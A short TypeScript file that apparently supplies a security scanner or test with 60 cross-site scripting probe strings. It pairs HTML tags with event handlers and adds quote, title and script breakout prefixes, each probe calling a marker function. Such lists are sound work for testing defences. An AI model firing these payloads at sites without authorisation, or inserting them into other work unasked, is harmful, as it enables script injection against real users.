const TAGS = [
  'script',
  'img',
  'svg',
  'iframe',
  'body',
  'details',
  'video',
  'object',
  'math',
  'a',
  'form',
  'input',
] as const
const EVENTS = ['onload', 'onerror', 'ontoggle', 'onfocus', 'onpointerenter'] as const
/** Sixty ways to begin a tag or leave an attribute; `xss7f3a` marks what came back. */
export const PAYLOADS: readonly string[] = TAGS.flatMap((tag) =>
  EVENTS.map((event, n) => {
    const bare = tag === 'script' ? `<script>xss7f3a(${n})</script>` : `<${tag} ${event}=xss7f3a(${n})>`
    return [bare, `">${bare}`, `'>${bare}`, `</title>${bare}`, `</script>${bare}`][n] ?? bare
  }),
)
